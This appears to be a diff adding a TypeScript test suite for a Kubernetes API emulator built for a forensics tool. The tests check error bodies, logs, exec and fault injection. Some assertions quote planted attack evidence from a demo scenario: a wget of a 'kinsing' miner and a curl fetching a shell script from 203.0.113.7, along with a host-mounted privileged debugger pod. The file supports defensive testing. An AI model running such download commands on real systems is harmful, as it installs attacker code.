@@ -1,0 +1,502 @@
+// The Kubernetes API emulator, driven by the real @kubernetes/client-node over real TLS.
+import assert from 'node:assert/strict';
+import { spawn } from 'node:child_process';
+import { mkdtemp, readFile, rm } from 'node:fs/promises';
+import { request } from 'node:https';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { Writable } from 'node:stream';
+import { after, before, describe, it } from 'node:test';
+import * as k8s from '@kubernetes/client-node';
+import { WebSocketHandler } from '@kubernetes/client-node/dist/web-socket-handler.js';
+import WebSocket from 'ws';
+import { generateLargeScenario, loadScenario, parseScenario, startKubeEmulator, type KubeEmulator, type LogLine } from './index.js';
+
+const NOW = new Date('2026-03-01T12:00:00Z');
+
+const SMALL = `
+apiVersion: v1
+kind: List
+items:
+- apiVersion: v1
+  kind: Namespace
+  metadata: {name: team-a, uid: 11111111-0000-4000-8000-000000000001, creationTimestamp: "\${now-2d}"}
+- apiVersion: v1
+  kind: Namespace
+  metadata: {name: team-b, uid: 11111111-0000-4000-8000-000000000002, creationTimestamp: "\${now-2d}"}
+${['p1', 'p2', 'p3', 'p4', 'p5']
+  .map(
+    (p, i) => `- apiVersion: v1
+  kind: Pod
+  metadata: {name: ${p}, namespace: ${i < 3 ? 'team-a' : 'team-b'}, labels: {app: ${i % 2 ? 'odd' : 'even'}}, creationTimestamp: "\${now-40m}"}
+  spec: {containers: [{name: app, image: "registry.example/app:1"}, {name: side, image: "gcr.io/distroless/static:nonroot"}]}
+  status: {phase: Running}`,
+  )
+  .join('\n')}
+- apiVersion: rbac.authorization.k8s.io/v1
+  kind: ClusterRole
+  metadata: {name: view, creationTimestamp: "\${now-2d}"}
+  rules: [{apiGroups: [""], resources: [pods], verbs: [get, list]}]
+---
+apiVersion: kubeforensys.dev/emulator-v1
+kind: KubeForenSysEmulatorData
+cluster: test-cluster
+auth: {token: test-token, username: "system:serviceaccount:forensics:collector"}
+containers:
+- namespace: team-a
+  pod: p1
+  container: app
+  logs:
+  - "\${now-2h} old line"
+  - time: "2026-03-01T11:30:00.123450000Z"
+    text: "half an hour ago"
+  - time: "\${now-10m}"
+    base64: "//5oaSDAgA=="
+  - time: "\${now-1m}"
+    text: "A"
+    repeat: 1500000
+  previousLogs:
+  - "\${now-3h} before the crash"
+  files:
+  - path: /root/.bash_history
+    mtime: "\${now-30m}"
+    content: |
+      #\${epoch:now-31m}
+      id
+  - path: /home/alice/.zsh_history
+    content: "ls\\n"
+- namespace: team-a
+  pod: p1
+  container: side
+  distroless: true
+faults:
+- {type: forbidden, resource: cronjobs.batch, verb: list}
+- {type: delay, ms: 50, path: /apis/batch/v1/jobs, times: 1}
+`;
+
+interface ApiErr {
+  code: number;
+  body: { kind?: string; reason?: string; message?: string; code?: number; details?: Record<string, unknown> } | undefined;
+}
+
+async function apiError(p: Promise<unknown>): Promise<ApiErr> {
+  try {
+    await p;
+  } catch (e) {
+    const err = e as { code: number; body: unknown };
+    const body = typeof err.body === 'string' ? (JSON.parse(err.body) as ApiErr['body']) : (err.body as ApiErr['body']);
+    return { code: err.code, body };
+  }
+  assert.fail('expected the call to fail');
+}
+
+function kubeConfig(emu: KubeEmulator, yaml = emu.kubeconfigYaml): k8s.KubeConfig {
+  const kc = new k8s.KubeConfig();
+  kc.loadFromString(yaml);
+  return kc;
+}
+
+interface ExecResult {
+  stdout: Buffer;
+  stderr: string;
+  status: k8s.V1Status | undefined;
+  protocol: string;
+  channels: number[];
+}
+
+/** Runs a command through the real client's Exec and waits for the socket to close. */
+async function execRun(kc: k8s.KubeConfig, ns: string, pod: string, container: string, argv: string[], offer?: string[]): Promise<ExecResult> {
+  const out: Buffer[] = [];
+  let err = '';
+  const channels: number[] = [];
+  let status: k8s.V1Status | undefined;
+  let socket: WebSocket | undefined;
+  const handler = new WebSocketHandler(kc, (uri: string, protocols: string[], opts: WebSocket.ClientOptions) => {
+    socket = new WebSocket(uri, offer ?? protocols, opts);
+    socket.on('message', (data: Buffer) => channels.push(data[0]!));
+    return socket;
+  });
+  const closed = new Promise<void>((resolve) => {
+    const wait = setInterval(() => {
+      if (socket) {
+        clearInterval(wait);
+        socket.on('close', () => resolve());
+      }
+    }, 1);
+  });
+  const stdout = new Writable({ write: (c: Buffer, _e, cb) => (out.push(c), cb()) });
+  const stderr = new Writable({ write: (c: Buffer, _e, cb) => ((err += c.toString()), cb()) });
+  const ws = (await new k8s.Exec(kc, handler).exec(ns, pod, container, argv, stdout, stderr, null, false, (s) => (status = s))) as unknown as WebSocket;
+  await closed;
+  return { stdout: Buffer.concat(out), stderr: err, status, protocol: ws.protocol, channels };
+}
+
+/** A raw HTTPS GET trusting the emulator's CA (for bodies the generated client throws away). */
+function rawGet(emu: KubeEmulator, path: string, headers: Record<string, string> = {}): Promise<{ status: number; type: string; body: Buffer }> {
+  return new Promise((resolve, reject) => {
+    const req = request(`${emu.url}${path}`, { ca: emu.caPem, headers }, (res) => {
+      const chunks: Buffer[] = [];
+      res.on('data', (c: Buffer) => chunks.push(c));
+      res.on('end', () => resolve({ status: res.statusCode ?? 0, type: String(res.headers['content-type']), body: Buffer.concat(chunks) }));
+    });
+    req.on('error', reject);
+    req.end();
+  });
+}
+
+/** The client rejects a refused upgrade with the WebSocket ErrorEvent, whose message names the status. */
+function upgradeRefused(code: number): (e: unknown) => boolean {
+  return (e) => (e as { message?: string }).message === `Unexpected server response: ${code}`;
+}
+
+async function streamLog(kc: k8s.KubeConfig, ns: string, pod: string, container: string, opts: k8s.LogOptions): Promise<Buffer> {
+  const chunks: Buffer[] = [];
+  const done = new Promise<void>((resolve) => {
+    const sink = new Writable({ write: (c: Buffer, _e, cb) => (chunks.push(c), cb()), final: (cb) => (resolve(), cb()) });
+    void new k8s.Log(kc).log(ns, pod, container, sink, opts);
+  });
+  await done;
+  return Buffer.concat(chunks);
+}
+
+describe('kube emulator with the real client', () => {
+  let emu: KubeEmulator;
+  let kc: k8s.KubeConfig;
+  let core: k8s.CoreV1Api;
+
+  before(async () => {
+    emu = await startKubeEmulator({ scenario: parseScenario(SMALL, { now: NOW }) });
+    kc = kubeConfig(emu);
+    core = kc.makeApiClient(k8s.CoreV1Api);
+  });
+  after(() => emu.close());
+
+  it('writes a kubeconfig that trusts the emulator CA (no insecure flag) and names everything after the cluster', async () => {
+    assert.doesNotMatch(emu.kubeconfigYaml, /insecure-skip-tls-verify/);
+    assert.equal(kc.getCurrentContext(), 'test-cluster');
+    assert.equal(kc.getCurrentCluster()?.name, 'test-cluster');
+    assert.equal(kc.getCurrentUser()?.name, 'test-cluster');
+    const dir = await mkdtemp(join(tmpdir(), 'kfs-emu-'));
+    try {
+      await emu.writeKubeconfig(join(dir, 'config'));
+      const kc2 = new k8s.KubeConfig();
+      kc2.loadFromFile(join(dir, 'config'));
+      const ns = await kc2.makeApiClient(k8s.CoreV1Api).listNamespace();
+      assert.deepEqual(ns.items.map((n) => n.metadata?.name), ['team-a', 'team-b']);
+    } finally {
+      await rm(dir, { recursive: true, force: true });
+    }
+  });
+
+  it('pages a cluster-wide list with limit/continue and remainingItemCount, in namespace/name order', async () => {
+    const names: string[] = [];
+    const remaining: (number | undefined)[] = [];
+    let cont: string | undefined;
+    do {
+      const page = await core.listPodForAllNamespaces({ limit: 2, _continue: cont });
+      names.push(...page.items.map((p) => `${p.metadata?.namespace}/${p.metadata?.name}`));
+      remaining.push(page.metadata?.remainingItemCount);
+      cont = page.metadata?._continue;
+    } while (cont);
+    assert.deepEqual(names, ['team-a/p1', 'team-a/p2', 'team-a/p3', 'team-b/p4', 'team-b/p5']);
+    assert.deepEqual(remaining, [3, 1, undefined]);
+    const raw = JSON.parse((await rawGet(emu, '/api/v1/namespaces/team-a/pods', { Authorization: 'Bearer test-token' })).body.toString());
+    assert.equal(raw.kind, 'PodList');
+    assert.match(raw.metadata.resourceVersion, /^\d+$/);
+    assert.equal(raw.items.length, 3);
+    assert.equal(raw.items[0].kind, undefined, 'list items carry no kind, as on a real API server');
+    const one = await core.readNamespacedPod({ namespace: 'team-b', name: 'p4' });
+    assert.equal(one.kind, 'Pod');
+    const sel = await core.listNamespacedPod({ namespace: 'team-a', labelSelector: 'app=even' });
+    assert.deepEqual(sel.items.map((p) => p.metadata?.name), ['p1', 'p3']);
+  });
+
+  it('answers 410 Expired for a continue token after page N, once, and a fresh list then completes', async () => {
+    emu.faults.expireContinue('pods', 1);
+    const first = await core.listPodForAllNamespaces({ limit: 2 });
+    const err = await apiError(core.listPodForAllNamespaces({ limit: 2, _continue: first.metadata?._continue }));
+    assert.equal(err.code, 410);
+    assert.equal(err.body?.reason, 'Expired');
+    assert.match(err.body?.message ?? '', /^The provided continue parameter is too old to display a consistent list result\./);
+    let count = 0;
+    let cont: string | undefined;
+    do {
+      const page = await core.listPodForAllNamespaces({ limit: 2, _continue: cont });
+      count += page.items.length;
+      cont = page.metadata?._continue;
+    } while (cont);
+    assert.equal(count, 5);
+  });
+
+  it('answers 403 with the real Status shape, cluster-wide only or in chosen namespaces', async () => {
+    const remove = emu.faults.forbid('pods', { scope: 'cluster' });
+    try {
+      const err = await apiError(core.listPodForAllNamespaces());
+      assert.equal(err.code, 403);
+      assert.deepEqual(err.body, {
+        kind: 'Status',
+        apiVersion: 'v1',
+        metadata: {},
+        status: 'Failure',
+        message:
+          'pods is forbidden: User "system:serviceaccount:forensics:collector" cannot list resource "pods" in API group "" at the cluster scope',
+        reason: 'Forbidden',
+        details: { kind: 'pods' },
+        code: 403,
+      });
+      assert.equal((await core.listNamespacedPod({ namespace: 'team-a' })).items.length, 3, 'per-namespace lists still work');
+    } finally {
+      remove();
+    }
+    emu.faults.forbid('clusterroles.rbac.authorization.k8s.io', { times: 1 });
+    const rbac = kc.makeApiClient(k8s.RbacAuthorizationV1Api);
+    const e2 = await apiError(rbac.listClusterRole());
+    assert.match(e2.body?.message ?? '', /cannot list resource "clusterroles" in API group "rbac.authorization.k8s.io" at the cluster scope/);
+    assert.equal((await rbac.listClusterRole()).items.length, 1, 'times: 1 lets the next call through');
+    const rm2 = emu.faults.forbid('pods', { namespaces: ['team-b'] });
+    const e3 = await apiError(core.listNamespacedPod({ namespace: 'team-b' }));
+    assert.match(e3.body?.message ?? '', /in the namespace "team-b"$/);
+    rm2();
+  });
+
+  it('serves logs with RFC3339Nano timestamps, sinceSeconds, tailLines and limitBytes', async () => {
+    const all = await core.readNamespacedPodLog({ namespace: 'team-a', name: 'p1', container: 'app', timestamps: true, limitBytes: 80 });
+    const lines = all.split('\n');
+    assert.equal(lines[0], '2026-03-01T10:00:00Z old line');
+    assert.equal(lines[1], '2026-03-01T11:30:00.12345Z half an hour ago', 'trailing zeros are trimmed like Go RFC3339Nano');
+    assert.equal(Buffer.byteLength(all), 80, 'limitBytes cuts the stream mid-line');
+    // The emulator's clock starts at NOW: sinceSeconds=3600 keeps the last three lines only.
+    const recent = await core.readNamespacedPodLog({ namespace: 'team-a', name: 'p1', container: 'app', sinceSeconds: 3600, tailLines: 2 });
+    assert.ok(!recent.includes('half an hour ago'));
+    assert.ok(recent.startsWith('\ufffd'), 'the non-UTF-8 line comes first after tailLines=2');
+    const prev = await core.readNamespacedPodLog({ namespace: 'team-a', name: 'p1', container: 'app', previous: true });
+    assert.equal(prev, 'before the crash\n');
+  });
+
+  it('keeps non-UTF-8 bytes and streams a 1.5 MB single line intact', async () => {
+    const body = await streamLog(kc, 'team-a', 'p1', 'app', { sinceSeconds: 1200 });
+    const nl = body.indexOf(0x0a);
+    assert.deepEqual(body.subarray(0, nl), Buffer.from('//5oaSDAgA==', 'base64'));
+    const big = body.subarray(nl + 1);
+    assert.equal(big.length, 1_500_001);
+    assert.equal(big.at(-1), 0x0a);
+    assert.ok(big.subarray(0, -1).every((b) => b === 0x41));
+  });
+
+  it('answers the real 400/404 bodies for previous, container and pod errors', async () => {
+    const prev = await apiError(core.readNamespacedPodLog({ namespace: 'team-a', name: 'p2', container: 'app', previous: true }));
+    assert.equal(prev.code, 400);
+    assert.equal(prev.body?.reason, 'BadRequest');
+    assert.equal(prev.body?.message, 'previous terminated container "app" in pod "p2" not found');
+    const bad = await apiError(core.readNamespacedPodLog({ namespace: 'team-a', name: 'p1', container: 'nope' }));
+    assert.equal(bad.code, 400);
+    assert.equal(bad.body?.message, 'container nope is not valid for pod p1');
+    const none = await apiError(core.readNamespacedPodLog({ namespace: 'team-a', name: 'p1' }));
+    assert.equal(none.body?.message, 'a container name must be specified for pod p1, choose one of: [app side]');
+    const missing = await apiError(core.readNamespacedPodLog({ namespace: 'team-a', name: 'ghost', container: 'app' }));
+    assert.equal(missing.code, 404);
+    assert.equal(missing.body?.reason, 'NotFound');
+    assert.equal(missing.body?.message, 'pods "ghost" not found');
+    const log = await rawGet(emu, '/api/v1/namespaces/team-a/pods/p1/log?container=app&tailLines=1', { Authorization: 'Bearer test-token' });
+    assert.equal(log.type, 'text/plain');
+  });
+
+  it('execs over v5.channel.k8s.io: stdout on 1, status Success on 3, never channel 255', async () => {
+    const r = await execRun(kc, 'team-a', 'p1', 'app', ['cat', '/root/.bash_history']);
+    assert.equal(r.protocol, 'v5.channel.k8s.io');
+    assert.match(r.stdout.toString(), /^#\d{10}\nid\n$/);
+    assert.deepEqual(r.status, { metadata: {}, status: 'Success' });
+    assert.ok(r.channels.every((c) => c === 1 || c === 2 || c === 3));
+    assert.equal(r.channels.at(-1), 3);
+    const stat = await execRun(kc, 'team-a', 'p1', 'app', ['stat', '-c', '%Y', '/root/.bash_history']);
+    assert.equal(stat.stdout.toString(), `${NOW.getTime() / 1000 - 1800}\n`);
+    const ls = await execRun(kc, 'team-a', 'p1', 'app', ['ls', '-1', '/home']);
+    assert.equal(ls.stdout.toString(), 'alice\n');
+  });
+
+  it('execs over v4.channel.k8s.io when the client offers only v4', async () => {
+    const r = await execRun(kc, 'team-a', 'p1', 'app', ['cat', '/home/alice/.zsh_history'], ['v4.channel.k8s.io']);
+    assert.equal(r.protocol, 'v4.channel.k8s.io');
+    assert.equal(r.stdout.toString(), 'ls\n');
+    assert.equal(r.status?.status, 'Success');
+  });
+
+  it('reports a missing file as NonZeroExitCode with exit code 1 and the cat message on stderr', async () => {
+    const r = await execRun(kc, 'team-a', 'p1', 'app', ['cat', '/root/.ash_history']);
+    assert.equal(r.stderr, 'cat: /root/.ash_history: No such file or directory\n');
+    assert.equal(r.status?.status, 'Failure');
+    assert.equal(r.status?.reason, 'NonZeroExitCode');
+    assert.deepEqual(r.status?.details?.causes, [{ reason: 'ExitCode', message: '1' }]);
+  });
+
+  it('reports a distroless container as InternalError "executable file not found"', async () => {
+    const r = await execRun(kc, 'team-a', 'p1', 'side', ['cat', '/root/.bash_history']);
+    assert.equal(r.status?.status, 'Failure');
+    assert.equal(r.status?.reason, 'InternalError');
+    assert.match(r.status?.message ?? '', /exec: "cat": executable file not found in \$PATH: unknown$/);
+    assert.equal(r.stdout.length, 0);
+  });
+
+  it('refuses a forbidden exec at the upgrade with HTTP 403', async () => {
+    const remove = emu.faults.forbidExec({ namespaces: ['team-a'] });
+    try {
+      await assert.rejects(execRun(kc, 'team-a', 'p1', 'app', ['id']), upgradeRefused(403));
+    } finally {
+      remove();
+    }
+  });
+
+  it('answers 401 with a Status body for a wrong or missing token', async () => {
+    const wrong = kubeConfig(emu, emu.kubeconfigYaml.replace('token: test-token', 'token: stolen'));
+    const err = await apiError(wrong.makeApiClient(k8s.CoreV1Api).listNamespace());
+    assert.equal(err.code, 401);
+    const raw = await rawGet(emu, '/api/v1/namespaces');
+    assert.equal(raw.status, 401);
+    assert.equal(raw.type, 'application/json');
+    assert.deepEqual(JSON.parse(raw.body.toString()), {
+      kind: 'Status',
+      apiVersion: 'v1',
+      metadata: {},
+      status: 'Failure',
+      message: 'Unauthorized',
+      reason: 'Unauthorized',
+      code: 401,
+    });
+    await assert.rejects(execRun(wrong, 'team-a', 'p1', 'app', ['id']), upgradeRefused(401));
+  });
+
+  it('injects 500s and dropped connections on a path, and logs every request', async () => {
+    const rmErr = emu.faults.failPath('/api/v1/namespaces/team-b/pods');
+    const e = await apiError(core.listNamespacedPod({ namespace: 'team-b' }));
+    assert.equal(e.code, 500);
+    assert.equal(e.body?.reason, 'InternalError');
+    rmErr();
+    emu.faults.drop('/api/v1/namespaces/team-a/pods', 1);
+    await assert.rejects(core.listNamespacedPod({ namespace: 'team-a' }));
+    assert.equal((await core.listNamespacedPod({ namespace: 'team-a' })).items.length, 3);
+    const last = emu.requestLog.filter((r) => r.path.startsWith('/api/v1/namespaces/team-a/pods')).slice(-2);
+    assert.deepEqual(last.map((r) => r.status), [0, 200]);
+  });
+
+  it('applies the faults written in the scenario', async () => {
+    const batch = kc.makeApiClient(k8s.BatchV1Api);
+    const err = await apiError(batch.listCronJobForAllNamespaces());
+    assert.equal(err.code, 403);
+    assert.match(err.body?.message ?? '', /cannot list resource "cronjobs" in API group "batch"/);
+    assert.deepEqual((await batch.listJobForAllNamespaces()).items, [], 'a delayed answer still arrives');
+    assert.deepEqual(emu.faults.list().map((f) => f.type), ['forbidden'], 'the one-shot delay is used up');
+  });
+
+  it('answers who the token is, and the server version', async () => {
+    const review = await kc.makeApiClient(k8s.AuthenticationV1Api).createSelfSubjectReview({
+      body: { apiVersion: 'authentication.k8s.io/v1', kind: 'SelfSubjectReview' },
+    });
+    assert.equal(review.status?.userInfo?.username, 'system:serviceaccount:forensics:collector');
+    const v = await kc.makeApiClient(k8s.VersionApi).getCode();
+    assert.equal(v.gitVersion, 'v1.30.6');
+  });
+
+  it('refuses writes: the emulated cluster is read-only', async () => {
+    const err = await apiError(core.deleteNamespacedPod({ namespace: 'team-a', name: 'p1' }));
+    assert.equal(err.code, 405);
+  });
+});
+
+describe('scenario loading', () => {
+  it('resolves relative times against the start time', () => {
+    const s = parseScenario(SMALL, { now: NOW });
+    const ns = s.objects.find((o) => o.metadata?.name === 'team-a');
+    assert.equal(ns?.metadata?.creationTimestamp, '2026-02-27T12:00:00Z');
+    const hist = s.containers.get('team-a/p1/app')?.files?.['/root/.bash_history']?.content.toString();
+    assert.equal(hist, `#${NOW.getTime() / 1000 - 31 * 60}\nid\n`);
+  });
+
+  it('loads the demo scenario with every planted attack step', async () => {
+    const now = new Date();
+    const s = await loadScenario('test/emulators/kube/scenarios/demo.yaml', { now });
+    assert.equal(s.cluster, 'aks-prod-weu');
+    const byName = (kind: string, name: string) => s.objects.find((o) => o.kind === kind && o.metadata?.name === name);
+    const debuggerPod = byName('Pod', 'node-debugger') as { metadata: { creationTimestamp: string; ownerReferences?: unknown }; spec: { hostPID: boolean; volumes: { hostPath?: { path: string } }[] } };
+    assert.equal(Date.parse(debuggerPod.metadata.creationTimestamp), Math.floor(now.getTime() / 1000) * 1000 - 40 * 60_000);
+    assert.equal(debuggerPod.metadata.ownerReferences, undefined);
+    assert.ok(debuggerPod.spec.hostPID);
+    assert.ok(debuggerPod.spec.volumes.some((v) => v.hostPath?.path === '/'));
+    assert.ok(byName('ClusterRoleBinding', 'default-admin'));
+    assert.ok(byName('CronJob', 'kube-metrics-sync'));
+    assert.ok(byName('Job', 'kube-metrics-sync-28391234'));
+    const prev = s.containers.get('prod-web/api-backend-5c6d7e8f9-abcde/api')?.previousLogs as readonly LogLine[];
+    assert.ok(prev.some((l) => l.text?.includes('uid=0(root) gid=0(root)')));
+    assert.ok(prev.some((l) => l.text?.includes('wget http://203.0.113.7/kinsing')));
+    assert.equal(s.containers.get('prod-web/api-backend-5c6d7e8f9-abcde/metrics')?.distroless, true);
+  });
+
+  it('serves the demo: web-frontend history through exec, events in both APIs with the same uid', async () => {
+    const emu = await startKubeEmulator({ scenario: 'test/emulators/kube/scenarios/demo.yaml' });
+    try {
+      const kc = kubeConfig(emu);
+      const r = await execRun(kc, 'prod-web', 'web-frontend-7d9f8b6c5d-x2k9p', 'nginx', ['cat', '/root/.bash_history']);
+      assert.match(r.stdout.toString(), /curl -sL http:\/\/203\.0\.113\.7\/x\.sh -o \/tmp\/x\.sh/);
+      const core = (await kc.makeApiClient(k8s.CoreV1Api).listEventForAllNamespaces()).items;
+      const v1 = (await kc.makeApiClient(k8s.EventsV1Api).listEventForAllNamespaces()).items;
+      const pulling = core.find((e) => e.reason === 'Pulling' && e.involvedObject.name === 'node-debugger');
+      assert.ok(pulling);
+      assert.equal(v1.find((e) => e.metadata?.uid === pulling.metadata.uid)?.note, pulling.message);
+      const scheduled = v1.find((e) => e.reason === 'Scheduled' && e.regarding?.name === 'node-debugger');
+      assert.ok(scheduled?.eventTime);
+      assert.ok(core.some((e) => e.metadata.uid === scheduled.metadata?.uid));
+    } finally {
+      await emu.close();
+    }
+  });
+
+  it('generates a large cluster whose logs are produced on demand', async () => {
+    const s = generateLargeScenario({ pods: 20, containersPerPod: 2, linesPerContainer: 1000 });
+    assert.equal(s.objects.filter((o) => o.kind === 'Pod').length, 20);
+    assert.equal(s.containers.size, 40);
+    assert.equal(typeof s.containers.values().next().value?.logs, 'function');
+    const emu = await startKubeEmulator({ scenario: s });
+    try {
+      const kc = kubeConfig(emu);
+      const pod = (await kc.makeApiClient(k8s.CoreV1Api).listNamespacedPod({ namespace: 'bench-3' })).items[0]!;
+      const log = await kc
+        .makeApiClient(k8s.CoreV1Api)
+        .readNamespacedPodLog({ namespace: 'bench-3', name: pod.metadata!.name!, container: 'sidecar-1', timestamps: true, sinceSeconds: 86400 });
+      assert.equal(log.trimEnd().split('\n').length, 1000);
+    } finally {
+      await emu.close();
+    }
+  });
+});
+
+describe('npm run emulator', () => {
+  it('writes the kubeconfig, prints the URL, serves, and stops cleanly on SIGTERM', async () => {
+    const dir = await mkdtemp(join(tmpdir(), 'kfs-emu-main-'));
+    const out = join(dir, 'kubeconfig');
+    const child = spawn(process.execPath, ['--import', 'tsx', 'test/emulators/kube/main.ts', '--scenario', 'test/emulators/kube/scenarios/demo.yaml', '--kubeconfig-out', out], {
+      stdio: ['ignore', 'pipe', 'inherit'],
+    });
+    try {
+      let printed = '';
+      const url = await new Promise<string>((resolve, reject) => {
+        child.stdout.on('data', (d: Buffer) => {
+          printed += d.toString();
+          const m = printed.match(/listening on (https:\/\/127\.0\.0\.1:\d+)/);
+          if (m && printed.includes('kubeconfig written')) resolve(m[1]!);
+        });
+        child.on('exit', (code) => reject(new Error(`emulator exited early (${code}): ${printed}`)));
+      });
+      const kc = new k8s.KubeConfig();
+      kc.loadFromString(await readFile(out, 'utf8'));
+      assert.equal(kc.getCurrentCluster()?.server, url);
+      assert.equal(kc.getCurrentContext(), 'aks-prod-weu');
+      const pods = await kc.makeApiClient(k8s.CoreV1Api).listNamespacedPod({ namespace: 'default' });
+      assert.deepEqual(pods.items.map((p) => p.metadata?.name), ['node-debugger']);
+      const exited = new Promise<number | null>((resolve) => child.once('exit', (code) => resolve(code)));
+      child.kill('SIGTERM');
+      assert.equal(await exited, 0);
+    } finally {
+      if (child.exitCode === null) child.kill('SIGKILL');
+      await rm(dir, { recursive: true, force: true });
+    }
+  });
+});
